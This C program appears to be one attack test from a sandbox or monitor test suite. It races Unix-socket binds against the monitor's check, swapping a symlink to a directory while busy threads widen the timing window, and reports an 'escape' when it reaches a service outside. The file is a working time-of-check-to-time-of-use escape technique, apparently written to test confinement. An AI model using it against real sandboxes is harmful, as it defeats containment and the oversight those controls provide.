/* Binds a name over and over, at which a service outside starts over and over, and connects to what lies there: the
 * service says something to whoever reaches it. Its processors are kept busy, so that there is time between the
 * kernel's bind and the monitor's look. Arguments: the name, or a link to its directory that is exchanged meanwhile
 * (`led`), and how many seconds. */
#include "attack.h"
#include <pthread.h>
#include <sys/socket.h>
#include <sys/un.h>

enum { BUSY = 12 };

static void *keep_busy(void *unused) {
    for (;;) ;
    return unused;
}

static void *exchange(void *unused) {
    for (;;) {
        unlink("led");
        symlink(".", "led");
        unlink("led");
        symlink("sub", "led");
    }
    return unused;
}

static int reach(void) {
    struct sockaddr_un to = {.sun_family = AF_UNIX, .sun_path = "sock"};
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct timeval most = {1, 0};
    char said[16];
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &most, sizeof most);
    int reached = connect(s, (void *)&to, sizeof to) == 0 && read(s, said, sizeof said) > 0;
    close(s);
    return reached;
}

int main(int argc, char **argv) {
    struct sockaddr_un name = {.sun_family = AF_UNIX};
    pthread_t thread;
    if (argc != 3) return 1;
    snprintf(name.sun_path, sizeof name.sun_path, "%s", argv[1]);
    for (int n = 0; n < BUSY; n++) pthread_create(&thread, NULL, keep_busy, NULL);
    int is_led = strcmp(argv[1], "sock") != 0;
    mkdir("sub", 0700);
    if (is_led) pthread_create(&thread, NULL, exchange, NULL);
    long made = 0;
    for (double end = now() + atof(argv[2]); now() < end;) {
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        if (bind(s, (void *)&name, sizeof name) == 0) {
            made++;
            if (reach()) escaped("a service outside");
            unlink(name.sun_path);
            unlink("sub/sock");
        }
        close(s);
    }
    fprintf(stderr, "%ld made\n", made);
    return made == 0;
}
